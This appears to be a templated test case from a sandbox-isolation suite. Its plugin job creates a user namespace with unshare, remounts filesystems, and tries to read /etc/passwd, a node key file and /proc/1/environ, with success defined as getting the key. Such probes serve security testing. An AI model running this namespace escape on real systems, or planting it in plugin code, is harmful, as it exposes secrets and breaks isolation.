# family: namespaces
# kind: value
# tries: a user namespace of its own, whose root may mount and see
# success looks like: contents of /etc/passwd, the key
def job(plugin):
  @LIBC@
  steps = [libc.unshare(0x10000000 | 0x20000)]
  steps.append(libc.mount(b'none', b'/', None, c.c_ulong(0x4000 | (1 << 18)), None))
  steps.append(libc.mount(b'tmpfs', b'/tmp', b'tmpfs', c.c_ulong(0), None))
  steps.append(libc.mount(b'proc', b'/proc', b'proc', c.c_ulong(0), None))
  for path in ('/etc/passwd', '@NODE_KEY@', '/proc/1/environ'):
    try:
      fd = os.open(path, 0)
      steps.append(os.read(fd, 4000))
    except OSError as error:
      steps.append(str(error))
  return steps
